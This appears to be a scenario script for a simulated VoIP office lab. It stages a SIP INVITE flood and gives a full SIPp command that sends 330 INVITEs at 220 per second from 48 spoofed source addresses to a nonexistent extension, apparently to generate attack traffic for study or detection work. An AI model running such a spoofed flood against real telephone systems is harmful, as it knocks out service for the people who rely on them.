# A flood of INVITEs under 48 addresses that are not the sender's, for a number that does not exist.
relocate example.net 5060 10.200.9 198.18.120 203.0.113
EXTENSIONS=(611 612 613 614 615 616)
EXISTING='^6[0-1][0-9]$'
WEAK=none
open_office
add_attacker spoofer 203.0.113.166
spoof spoofer 203.0.113.{30..53} 198.18.120.{60..83}
start_office_capture
keep_alive 8
office_day 210 55
at 26 attack A1 invite_flood spoofer 5060 "SIPp sends 330 INVITEs, 220 a second, under 48 addresses that are not its own." \
    "$(version_of sipp)" env TERM=dumb sipp -sf "$parts/sipp/flood-spoofed.xml" -nostdin -default_behaviors none \
    -t ui -max_socket 600 -ip_field 0 -inf "$scratch/sources.csv" -cid_str "%u-%p" -i 203.0.113.166 -mi 203.0.113.166 -p 5060 \
    -s 777 -r 220 -m 330 10.200.9.1:5060
play
wait_for A1
close_office
